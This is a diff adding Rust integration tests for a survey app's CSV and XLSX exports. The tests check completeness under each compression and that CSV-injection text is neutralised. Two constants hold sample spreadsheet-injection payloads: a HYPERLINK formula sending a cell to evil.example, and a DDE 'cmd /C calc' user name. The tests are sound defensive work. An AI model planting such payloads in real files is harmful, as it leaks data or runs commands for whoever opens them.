@@ -6,7 +6,8 @@ use std::collections::BTreeMap;
 use app::flags::Flag;
 use app::store::responses::NewResponse;
 use app::store::Backend;
-use axum::http::{header, StatusCode};
+use axum::body::Body;
+use axum::http::{header, Request, StatusCode};
 use calamine::{Data, Reader};
 use hailong_tests::{both_backends, qr_response, Session, TestApp, TestResponse};
 use survey_definitions::{Answer, AnswerValue};
@@ -19,6 +20,8 @@ both_backends!(
     strangers_are_sent_to_sign_in_and_bad_filters_get_a_reason,
     the_score_export_has_one_row_per_commune_of_the_latest_run,
     a_large_export_streams_every_response_once,
+    every_export_is_complete_with_gzip_brotli_or_no_compression,
+    a_spreadsheet_shows_formula_like_text_as_text,
 );
 
 const TAN_PHU: &str = "25195"; // district 689 (Đồng Xoài)
@@ -713,4 +716,625 @@ async fn a_large_export_streams_every_response_once(backend: Backend) {
     let tan_phu_ids: std::collections::BTreeSet<&str> =
         tan_phu.values("response_id").into_iter().collect();
     assert_eq!(tan_phu_ids.len(), 1500, "each response once");
+}
+
+// ---------------------------------------------------------------------------------------------
+// Every export whole under every encoding, and safe to open in a spreadsheet
+
+/// A comment as an attacker types it: a spreadsheet that runs it sends the cell beside it to
+/// another site when clicked.
+const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Mở\")";
+/// A user name tried at the sign-in form, which the audit log records as typed.
+const FORMULA_USER: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
+
+/// Text as the CSV exports write it (OWASP, "CSV Injection"): a cell a spreadsheet would read as
+/// a formula starts with an apostrophe.
+fn neutralised(text: &str) -> String {
+    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{text}")
+    } else {
+        text.to_string()
+    }
+}
+
+/// `(year, month, day, hour, minute, second)` of `ms` shifted by `offset_hours` (H. Hinnant's
+/// civil_from_days).
+fn civil(ms: i64, offset_hours: i64) -> (i64, i64, i64, i64, i64, i64) {
+    let secs = ms.div_euclid(1000) + offset_hours * 3600;
+    let (days, rest) = (secs.div_euclid(86_400), secs.rem_euclid(86_400));
+    let z = days + 719_468;
+    let era = z.div_euclid(146_097);
+    let doe = z - era * 146_097;
+    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
+    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
+    let mp = (5 * doy + 2) / 153;
+    let d = doy - (153 * mp + 2) / 5 + 1;
+    let m = if mp < 10 { mp + 3 } else { mp - 9 };
+    let y = yoe + era * 400 + i64::from(m <= 2);
+    (y, m, d, rest / 3600, rest % 3600 / 60, rest % 60)
+}
+
+fn utc_text(ms: i64) -> String {
+    let (y, m, d, hh, mm, ss) = civil(ms, 0);
+    format!("{y:04}-{m:02}-{d:02}T{hh:02}:{mm:02}:{ss:02}Z")
+}
+
+fn vn_text(ms: i64) -> String {
+    let (y, m, d, hh, mm, _) = civil(ms, 7);
+    format!("{d:02}/{m:02}/{y:04} {hh:02}:{mm:02}")
+}
+
+/// A stored value as an export must show it.
+#[derive(Clone, Debug)]
+enum Value {
+    Text(String),
+    Int(i64),
+    /// Hundredths of a point.
+    Points(i64),
+    Empty,
+}
+
+impl Value {
+    fn text(text: impl Into<String>) -> Value {
+        Value::Text(text.into())
+    }
+
+    /// The CSV field.
+    fn csv(&self) -> String {
+        match self {
+            Value::Text(s) => neutralised(s),
+            Value::Int(n) => n.to_string(),
+            Value::Points(p) => scoring::Points::from_hundredths(*p as u64)
+                .unwrap()
+                .to_string(),
+            Value::Empty => String::new(),
+        }
+    }
+
+    /// Whether an XLSX cell holds this value: text as text (less what XML cannot hold), numbers
+    /// as numbers.
+    fn is_in(&self, cell: &Data) -> bool {
+        match (self, cell) {
+            (Value::Text(s), Data::String(c)) => {
+                *c == s.replace(|c: char| c < ' ' && !"\t\n\r".contains(c), "")
+            }
+            (Value::Text(s), Data::Empty) => s.is_empty(),
+            (Value::Int(n), Data::Float(f)) => *f == *n as f64,
+            (Value::Int(n), Data::Int(i)) => i == n,
+            (Value::Points(p), Data::Float(f)) => (f * 100.0).round() as i64 == *p,
+            (Value::Empty, Data::Empty) => true,
+            _ => false,
+        }
+    }
+}
+
+/// Stored rows by the value of their key column (the export's own order is checked elsewhere),
+/// each as the columns to compare.
+type Stored = BTreeMap<String, Vec<(String, Value)>>;
+
+/// Every response the default export selects (excluded ones left out), read back with SQL.
+async fn stored_responses(app: &TestApp, questions: &[String]) -> Stored {
+    let pool = app.store().pool();
+    let responses: Vec<(i64, i64, String, String, String, i64)> = sqlx::query_as(
+        "select r.id, r.created_at, c.code, d.public_code, r.channel, r.excluded \
+         from responses r join desks d on d.id = r.desk_id \
+         join admin_units c on c.id = d.commune_id where r.excluded = 0",
+    )
+    .fetch_all(pool)
+    .await
+    .unwrap();
+    let answers: Vec<(i64, String, Option<i64>, Option<String>)> =
+        sqlx::query_as("select response_id, question_id, value_int, value_text from answers")
+            .fetch_all(pool)
+            .await
+            .unwrap();
+    let mut by_response: BTreeMap<i64, BTreeMap<String, Value>> = BTreeMap::new();
+    for (response, question, int, text) in answers {
+        let value = match (int, text) {
+            (_, Some(text)) => Value::Text(text),
+            (Some(n), None) => Value::Int(n),
+            (None, None) => Value::Empty,
+        };
+        by_response
+            .entry(response)
+            .or_default()
+            .insert(question, value);
+    }
+    responses
+        .into_iter()
+        .map(|(id, at, commune, desk, channel, excluded)| {
+            let mut row = vec![
+                ("response_id".to_string(), Value::Int(id)),
+                ("submitted_at_utc".to_string(), Value::text(utc_text(at))),
+                ("submitted_at_vn".to_string(), Value::text(vn_text(at))),
+                ("commune_code".to_string(), Value::text(commune)),
+                ("desk_code".to_string(), Value::text(desk)),
+                ("channel".to_string(), Value::text(channel)),
+                ("excluded".to_string(), Value::Int(excluded)),
+            ];
+            let answers = by_response.remove(&id).unwrap_or_default();
+            for q in questions {
+                row.push((q.clone(), answers.get(q).cloned().unwrap_or(Value::Empty)));
+            }
+            (id.to_string(), row)
+        })
+        .collect()
+}
+
+/// Every commune of the latest score run, read back with SQL.
+async fn stored_scores(app: &TestApp) -> Stored {
+    let rows: Vec<(String, i64, i64, String, String, i64)> = sqlx::query_as(
+        "select u.code, s.total, s.passed, s.input_hash, s.output_hash, s.run_id \
+         from score_results s join admin_units u on u.id = s.unit_id \
+         where s.run_id = (select max(id) from score_runs)",
+    )
+    .fetch_all(app.store().pool())
+    .await
+    .unwrap();
+    rows.into_iter()
+        .map(|(code, total, passed, input, output, run)| {
+            let row = vec![
+                ("commune_code".to_string(), Value::text(code.clone())),
+                ("total".to_string(), Value::Points(total)),
+                (
+                    "passed".to_string(),
+                    Value::text(if passed == 1 { "có" } else { "không" }),
+                ),
+                ("input_hash".to_string(), Value::text(input)),
+                ("output_hash".to_string(), Value::text(output)),
+                ("run_id".to_string(), Value::Int(run)),
+            ];
+            (code, row)
+        })
+        .collect()
+}
+
+/// The whole audit log, read back with SQL.
+async fn stored_audit(app: &TestApp) -> Stored {
+    let rows: Vec<(i64, String, String, String, String, i64, i64)> = sqlx::query_as(
+        "select id, actor, action, target, detail, created_at, repeats from audit_log",
+    )
+    .fetch_all(app.store().pool())
+    .await
+    .unwrap();
+    rows.into_iter()
+        .map(|(id, actor, action, target, detail, at, repeats)| {
+            let row = vec![
+                ("id".to_string(), Value::Int(id)),
+                ("time".to_string(), Value::text(vn_text(at))),
+                ("actor".to_string(), Value::text(actor)),
+                ("action".to_string(), Value::text(action)),
+                ("target".to_string(), Value::text(target)),
+                ("detail".to_string(), Value::text(detail)),
+                ("repeats".to_string(), Value::Int(repeats)),
+            ];
+            (id.to_string(), row)
+        })
+        .collect()
+}
+
+/// Checks a downloaded CSV against the stored rows, row for row: each stored row exactly once.
+fn assert_csv_holds(what: &str, csv: &Csv, key: &str, stored: &Stored) {
+    assert_eq!(csv.rows.len(), stored.len(), "{what}: rows");
+    let mut seen = std::collections::BTreeSet::new();
+    for row in &csv.rows {
+        let id = &row[csv.col(key)];
+        assert!(seen.insert(id.clone()), "{what}: {key} {id} twice");
+        let expected = stored
+            .get(id)
+            .unwrap_or_else(|| panic!("{what}: {key} {id} is not stored"));
+        for (column, value) in expected {
+            assert_eq!(
+                row[csv.col(column)],
+                value.csv(),
+                "{what}: {key} {id}, column {column}"
+            );
+        }
+    }
+}
+
+/// Checks a downloaded XLSX sheet against the stored rows, row for row.
+fn assert_xlsx_holds(what: &str, sheet: &calamine::Range<Data>, key: &str, stored: &Stored) {
+    let mut rows = sheet.rows();
+    let header: Vec<String> = rows
+        .next()
+        .expect("a header")
+        .iter()
+        .map(cell_text)
+        .collect();
+    let col = |name: &str| {
+        header
+            .iter()
+            .position(|h| h == name)
+            .unwrap_or_else(|| panic!("{what}: no column {name}"))
+    };
+    let mut seen = std::collections::BTreeSet::new();
+    for row in rows {
+        let id = cell_text(&row[col(key)]);
+        assert!(seen.insert(id.clone()), "{what}: {key} {id} twice");
+        let expected = stored
+            .get(&id)
+            .unwrap_or_else(|| panic!("{what}: {key} {id} is not stored"));
+        for (column, value) in expected {
+            let cell = &row[col(column)];
+            assert!(
+                value.is_in(cell),
+                "{what}: {key} {id}, column {column}: {cell:?} for {value:?}"
+            );
+        }
+    }
+    assert_eq!(seen.len(), stored.len(), "{what}: rows");
+}
+
+/// What the client says it accepts.
+#[derive(Clone, Copy, Debug)]
+enum Encoding {
+    Identity,
+    Gzip,
+    Brotli,
+}
+
+/// Downloads `path` as `session` accepting `encoding`, and decodes the body as a browser does;
+/// checks the server did compress when asked, so the compression layer is on the way.
+async fn download(
+    app: &TestApp,
+    session: &Session,
+    path: &str,
+    encoding: Encoding,
+) -> TestResponse {
+    let accept = match encoding {
+        Encoding::Identity => "identity",
+        Encoding::Gzip => "gzip",
+        Encoding::Brotli => "br",
+    };
+    let mut response = app
+        .request(
+            Request::get(path)
+                .header(header::COOKIE, &session.cookie)
+                .header(header::ACCEPT_ENCODING, accept)
+                .body(Body::empty())
+                .unwrap(),
+        )
+        .await;
+    assert_eq!(response.status, StatusCode::OK, "{path} {accept}");
+    let sent = response
+        .headers
+        .get(header::CONTENT_ENCODING)
+        .map(|v| v.to_str().unwrap().to_string());
+    let mut decoded = Vec::new();
+    match encoding {
+        Encoding::Identity => {
+            assert_eq!(sent, None, "{path}");
+            decoded = response.body.clone();
+        }
+        Encoding::Gzip => {
+            assert_eq!(sent.as_deref(), Some("gzip"), "{path}");
+            std::io::Read::read_to_end(
+                &mut flate2::read::GzDecoder::new(&response.body[..]),
+                &mut decoded,
+            )
+            .unwrap_or_else(|e| panic!("{path}: a whole gzip stream: {e}"));
+        }
+        Encoding::Brotli => {
+            assert_eq!(sent.as_deref(), Some("br"), "{path}");
+            std::io::Read::read_to_end(
+                &mut brotli::Decompressor::new(&response.body[..], 4096),
+                &mut decoded,
+            )
+            .unwrap_or_else(|e| panic!("{path}: a whole brotli stream: {e}"));
+        }
+    }
+    response.body = decoded;
+    response
+}
+
+/// The sheet `sheet` of a decoded XLSX body.
+fn xlsx_sheet(body: &[u8], sheet: &str) -> calamine::Range<Data> {
+    let mut book: calamine::Xlsx<_> =
+        calamine::open_workbook_from_rs(std::io::Cursor::new(body.to_vec()))
+            .expect("a workbook calamine opens");
+    book.worksheet_range(sheet).expect("the sheet reads")
+}
+
+/// `count` responses at Tân Phú and Thác Mơ, enough for many chunks of every body; comments
+/// that need quoting, escaping or neutralising.
+async fn seed_many(app: &TestApp, count: usize) {
+    let desks = [desk_id(app, TAN_PHU).await, desk_id(app, THAC_MO).await];
+    let comments = [
+        Some(FORMULA),
+        Some(TRICKY),
+        Some("-1 điểm vì chờ lâu"),
+        None,
+    ];
+    let answer_sets: Vec<Vec<Answer>> = (0..count)
+        .map(|i| answers(1 + (i % 5) as u8, comments[i % comments.len()]))
+        .collect();
+    let keys: Vec<String> = (0..count).map(|i| format!("many-{i}")).collect();
+    let batch: Vec<NewResponse> = (0..count)
+        .map(|i| NewResponse {
+            channel: if i % 7 == 0 { "kiosk" } else { "qr" },
+            ..qr_response(
+                desks[i % 2],
+                &keys[i],
+                vn("2026-05-01", 8, 0) + i as i64 * 1000,
+                &answer_sets[i],
+            )
+        })
+        .collect();
+    app.store().insert_responses(&batch).await.unwrap();
+}
+
+async fn every_export_is_complete_with_gzip_brotli_or_no_compression(backend: Backend) {
+    let app = TestApp::spawn(backend).await;
+    staff(&app).await;
+    seed(&app).await;
+    seed_many(&app, 2250).await;
+    let set = app.state.criteria.iter().find(|s| s.id == SET).unwrap();
+    app::score_runs::run_all(app.store(), set, &app.state.definitions, "test")
+        .await
+        .unwrap();
+    // The audit log spans several chunks too: sign-ins, one with a formula for a user name.
+    for _ in 0..3 {
+        app.try_login(FORMULA_USER, "sai mật khẩu").await;
+    }
+    for _ in 0..10 {
+        app.login("leader25195").await;
+    }
+    let admin = app.login("admin").await;
+    let questions = app_questions(&app);
+    let responses = stored_responses(&app, &questions).await;
+    let scores = stored_scores(&app).await;
+    assert!(responses.len() > 2000 && scores.len() > 100);
+
+    for encoding in [Encoding::Identity, Encoding::Gzip, Encoding::Brotli] {
+        let what = |file: &str| format!("{file} ({encoding:?})");
+        let get = |path: String| {
+            let (app, admin) = (&app, &admin);
+            async move { download(app, admin, &path, encoding).await }
+        };
+        let responses_csv = get("/exports/responses.csv".into()).await;
+        assert_csv_holds(
+            &what("responses.csv"),
+            &Csv::read(&responses_csv),
+            "response_id",
+            &responses,
+        );
+        let responses_xlsx = get("/exports/responses.xlsx".into()).await;
+        assert_xlsx_holds(
+            &what("responses.xlsx"),
+            &xlsx_sheet(&responses_xlsx.body, "Phiếu khảo sát"),
+            "response_id",
+            &responses,
+        );
+        let scores_csv = get(format!("/exports/scores.csv?criteria={SET}")).await;
+        assert_csv_holds(
+            &what("scores.csv"),
+            &Csv::read(&scores_csv),
+            "commune_code",
+            &scores,
+        );
+        let scores_xlsx = get(format!("/exports/scores.xlsx?criteria={SET}")).await;
+        assert_xlsx_holds(
+            &what("scores.xlsx"),
+            &xlsx_sheet(&scores_xlsx.body, "Kết quả chấm điểm"),
+            "commune_code",
+            &scores,
+        );
+        let audit = get("/admin/audit.csv".into()).await;
+        // Read after the download: the download itself is not in the log.
+        let stored = stored_audit(&app).await;
+        assert!(stored.len() > 10);
+        assert_csv_holds(&what("audit.csv"), &Csv::read(&audit), "id", &stored);
+
+        for file in [
+            &responses_csv,
+            &responses_xlsx,
+            &scores_csv,
+            &scores_xlsx,
+            &audit,
+        ] {
+            assert_eq!(
+                file.headers[header::CACHE_CONTROL],
+                "no-store",
+                "personal data: {:?}",
+                file.headers
+            );
+            let disposition = file.headers[header::CONTENT_DISPOSITION].to_str().unwrap();
+            assert!(
+                disposition.starts_with("attachment; filename="),
+                "{disposition}"
+            );
+        }
+    }
+}
+
+/// The question columns of the responses export, as the definitions list them.
+fn app_questions(app: &TestApp) -> Vec<String> {
+    server::exports::question_columns(&app.state.definitions)
+}
+
+/// Converts a CSV file to XLSX with LibreOffice, as a person opening the file in it would
+/// (UTF-8, comma, double quotes; formulas evaluated, LibreOffice's default), and returns the
+/// workbook; `None` when LibreOffice is not installed, which only outside CI is a loud skip.
+fn open_in_libreoffice(csv: &[u8]) -> Option<calamine::Xlsx<std::io::Cursor<Vec<u8>>>> {
+    let installed = std::process::Command::new("sh")
+        .args(["-c", "command -v soffice"])
+        .stdout(std::process::Stdio::null())
+        .status()
+        .is_ok_and(|s| s.success());
+    if !installed {
+        let ci = std::env::var("CI").is_ok_and(|v| !v.is_empty() && v != "false" && v != "0");
+        assert!(
+            !ci,
+            "LibreOffice (soffice) is required in CI: scripts/setup.sh --test installs it"
+        );
+        eprintln!(
+            "\n!!!!! SKIPPING THE LIBREOFFICE CHECK: soffice not installed. \
+             Run scripts/setup.sh --test (apt-get install libreoffice-calc-nogui). !!!!!\n"
+        );
+        return None;
+    }
+    let dir = std::env::temp_dir().join(format!(
+        "hailong-soffice-{}-{:016x}",
+        std::process::id(),
+        rand::random::<u64>()
+    ));
+    std::fs::create_dir_all(&dir).unwrap();
+    std::fs::write(dir.join("export.csv"), csv).unwrap();
+    let mut soffice = std::process::Command::new("soffice")
+        .arg("--headless")
+        // A profile of its own: two conversions at once would otherwise share one instance.
+        .arg(format!(
+            "-env:UserInstallation=file://{}/profile",
+            dir.display()
+        ))
+        .arg("--infilter=CSV:44,34,76,1")
+        .args(["--convert-to", "xlsx", "--outdir"])
+        .arg(&dir)
+        .arg(dir.join("export.csv"))
+        .stdout(std::process::Stdio::null())
+        .stderr(std::process::Stdio::null())
+        .spawn()
+        .expect("start soffice");
+    let started = std::time::Instant::now();
+    while soffice.try_wait().unwrap().is_none() {
+        if started.elapsed() > std::time::Duration::from_secs(180) {
+            let _ = soffice.kill();
+            panic!("soffice did not convert the file within 3 minutes");
+        }
+        std::thread::sleep(std::time::Duration::from_millis(100));
+    }
+    let xlsx = std::fs::read(dir.join("export.xlsx")).expect("soffice wrote the workbook");
+    let _ = std::fs::remove_dir_all(&dir);
+    Some(calamine::open_workbook_from_rs(std::io::Cursor::new(xlsx)).expect("a workbook"))
+}
+
+/// The first sheet of a workbook and its formulas.
+fn first_sheet(
+    book: &mut calamine::Xlsx<std::io::Cursor<Vec<u8>>>,
+) -> (calamine::Range<Data>, calamine::Range<String>) {
+    let name = book.sheet_names()[0].clone();
+    (
+        book.worksheet_range(&name).unwrap(),
+        book.worksheet_formula(&name).unwrap(),
+    )
+}
+
+async fn a_spreadsheet_shows_formula_like_text_as_text(backend: Backend) {
+    let app = TestApp::spawn(backend).await;
+    staff(&app).await;
+    let desk = desk_id(&app, TAN_PHU).await;
+    let comments = [
+        FORMULA,
+        "+84 912 345 678",
+        "-1 điểm",
+        "@cán bộ",
+        "\tthụt lề",
+    ];
+    let answer_sets: Vec<Vec<Answer>> = comments.iter().map(|c| answers(5, Some(c))).collect();
+    let keys: Vec<String> = (0..comments.len())
+        .map(|i| format!("formula-{i}"))
+        .collect();
+    let batch: Vec<NewResponse> = (0..comments.len())
+        .map(|i| {
+            qr_response(
+                desk,
+                &keys[i],
+                vn("2026-03-10", 8, i as i64),
+                &answer_sets[i],
+            )
+        })
+        .collect();
+    app.store().insert_responses(&batch).await.unwrap();
+    app.try_login(FORMULA_USER, "sai mật khẩu").await;
+    let admin = app.login("admin").await;
+
+    let responses = app
+        .get_as("/exports/responses.csv", Some(&admin.cookie))
+        .await;
+    let audit = app.get_as("/admin/audit.csv", Some(&admin.cookie)).await;
+    let xlsx = app
+        .get_as("/exports/responses.xlsx", Some(&admin.cookie))
+        .await;
+
+    let csv = Csv::read(&responses);
+    let written: Vec<&str> = csv.values("comment");
+    let expected: Vec<String> = comments.iter().map(|c| format!("'{c}")).collect();
+    assert_eq!(
+        written, expected,
+        "each formula-like comment starts with an apostrophe"
+    );
+    assert!(
+        responses
+            .text()
+            .contains("\"'=HYPERLINK(\"\"http://evil.example/"),
+        "the neutralised field stays quoted"
+    );
+    assert!(
+        csv.values("overall").iter().all(|v| *v == "5"),
+        "numbers stay numbers"
+    );
+    let log = Csv::read(&audit);
+    assert_eq!(audit.headers[header::CACHE_CONTROL], "no-store");
+    assert!(
+        log.values("actor")
+            .contains(&format!("'{FORMULA_USER}").as_str()),
+        "{:?}",
+        log.values("actor")
+    );
+    for (file, table) in [("responses.csv", &csv), ("audit.csv", &log)] {
+        for cell in table.rows.iter().flatten() {
+            let runs = cell.starts_with(['=', '+', '@', '\t', '\r'])
+                || (cell.starts_with('-') && cell.parse::<f64>().is_err());
+            assert!(!runs, "{file}: {cell:?} would run as a formula");
+        }
+    }
+    // XLSX cells are typed: the text is kept as typed, and no cell is a formula.
+    let sheet = read_xlsx(&xlsx, "Phiếu khảo sát");
+    let column = csv.col("comment");
+    let texts: Vec<&Data> = sheet.rows().skip(1).map(|r| &r[column]).collect();
+    let typed: Vec<Data> = comments
+        .iter()
+        .map(|c| Data::String(c.to_string()))
+        .collect();
+    assert_eq!(texts, typed.iter().collect::<Vec<_>>());
+    let mut book: calamine::Xlsx<_> =
+        calamine::open_workbook_from_rs(std::io::Cursor::new(xlsx.body.clone())).unwrap();
+    let formulas = book.worksheet_formula("Phiếu khảo sát").unwrap();
+    assert!(
+        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
+        "no formula"
+    );
+
+    // As LibreOffice reads the CSV files: the comment and the user name are plain text.
+    let (responses, audit) = (responses.body.clone(), audit.body.clone());
+    let opened = tokio::task::spawn_blocking(move || {
+        open_in_libreoffice(&responses).zip(open_in_libreoffice(&audit))
+    })
+    .await
+    .unwrap();
+    let Some((mut responses, mut audit)) = opened else {
+        return;
+    };
+    let (sheet, formulas) = first_sheet(&mut responses);
+    assert_eq!(
+        formulas.used_cells().find(|(_, _, f)| !f.is_empty()),
+        None,
+        "LibreOffice finds no formula in responses.csv"
+    );
+    let rows: Vec<&[Data]> = sheet.rows().collect();
+    let header: Vec<String> = rows[0].iter().map(cell_text).collect();
+    let at = |name: &str| header.iter().position(|h| h == name).unwrap();
+    for (row, comment) in rows[1..].iter().zip(&comments) {
+        assert_eq!(row[at("comment")], Data::String(format!("'{comment}")));
+        assert!(
+            matches!(row[at("overall")], Data::Float(_) | Data::Int(_)),
+            "a number"
+        );
+    }
+    let (sheet, formulas) = first_sheet(&mut audit);
+    assert_eq!(formulas.used_cells().find(|(_, _, f)| !f.is_empty()), None);
+    assert!(sheet
+        .rows()
+        .any(|r| r[2] == Data::String(format!("'{FORMULA_USER}"))));
 }
